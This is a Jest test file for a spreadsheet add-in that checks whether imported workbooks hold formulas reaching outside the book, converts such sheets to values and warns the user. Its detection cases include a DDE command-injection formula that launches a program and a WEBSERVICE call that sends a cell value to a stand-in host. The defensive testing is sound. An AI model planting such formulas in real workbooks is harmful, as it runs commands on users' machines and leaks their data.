// Issue 21 (C2): «Добавить файлы…» never brings formulas that reach outside the workbook into the user's book:
// such sheets are copied as values and the user is told where those formulas were.
import * as XLSX from '@e965/xlsx';
import { memorySettingsStore } from '../../src/app/settingsStore';
import { ExcelWorkbook } from '../../src/adapters/excel/excelWorkbook';
import { reachesOutside } from '../../src/adapters/xlsx/outwardFormulas';
import { createFakeExcel } from '../../src/preview/fakeExcel/fakeExcel';
import { FakeWorkbook } from '../../src/preview/fakeExcel/fakeWorkbook';
import { TaskpaneController } from '../../src/taskpane/controller/taskpaneController';

function district(formulas: Readonly<Record<string, string>>): Uint8Array {
  const ws = XLSX.utils.aoa_to_sheet([['ВПР 2024, 5 класс, русский язык'], ['ОО', 'Участников', 'Доля «2», %'], ['МБОУ СОШ №1', 20, 35], ['Лесная ООШ', 10, 10]]);
  for (const [cell, f] of Object.entries(formulas)) ws[cell] = { ...ws[cell], f };
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, ws, 'ВПР 5');
  return new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
}

/** Adds the file in a pane over the fake Excel with ExcelApi 1.13; `inserted`: whether Excel's own sheet copy was used. */
async function add(bytes: Uint8Array): Promise<{ book: FakeWorkbook; c: TaskpaneController; inserted: boolean }> {
  const book = new FakeWorkbook();
  book.setCell('Мой лист', 'A1', 'моя таблица');
  const fake = createFakeExcel(book, { isSetSupported: () => true });
  const port = new ExcelWorkbook(fake.run, { isSetSupported: () => true });
  const insert = jest.spyOn(port, 'insertWorkbook');
  const c = new TaskpaneController({ port, settings: memorySettingsStore(), version: 't' });
  await c.start();
  await c.addFiles([{ name: 'чужая.xlsx', bytes: async () => bytes }]);
  return { book, c, inserted: insert.mock.calls.length > 0 };
}

describe('formulas that reach outside the workbook', () => {
  it.each([
    ['WEBSERVICE("http://example.org/?q="&A3)', true],
    ['[1]Итоги!B3', true],
    ["'[2]Итоги 2023'!B3*2", true],
    ["cmd|'/c calc'!A0", true],
    ['RTD("srv",,"x")', true],
    ['SUM(C3:C4)', false],
    ['"a|b"&"[1]"', false],
    ['Таблица1[2019]', false],
    ['IF(B3>0,C3/B3,0)', false],
  ])('%s → reaches outside: %s', (formula, expected) => {
    expect(reachesOutside(formula)).toBe(expected);
  });

  it('a workbook with WEBSERVICE and an external link is copied as values, and the pane names the cells', async () => {
    const { book, c, inserted } = await add(district({ C3: 'WEBSERVICE("http://example.org/x")', C4: '[1]Итоги!C4' }));
    expect(inserted).toBe(false);
    expect(book.sheetNames()).toEqual(['Мой лист', 'ВПР 5']);
    const copy = book.getSheetSnapshot('ВПР 5');
    expect(copy.values[2]).toEqual(['МБОУ СОШ №1', 20, 35]);
    expect(copy.formulas.flat().filter((f) => f !== null)).toEqual([]);
    const message = c.getState().messages.find((m) => m.title === 'Добавлены листы из «чужая.xlsx» — значениями');
    expect(message?.intent).toBe('warning');
    expect(message?.text).toContain('формулы, которые обращаются за пределы книги');
    expect(message?.text).toContain('«ВПР 5»: C3, C4');
  });

  it('a workbook with ordinary formulas is inserted as Excel copies it', async () => {
    const { book, c, inserted } = await add(district({ C3: 'ROUND(35,0)' }));
    expect(inserted).toBe(true);
    expect(book.sheetNames()).toEqual(['Мой лист', 'ВПР 5']);
    expect(c.getState().messages.find((m) => m.title === 'Добавлены листы из «чужая.xlsx»')?.intent).toBe('success');
  });
});
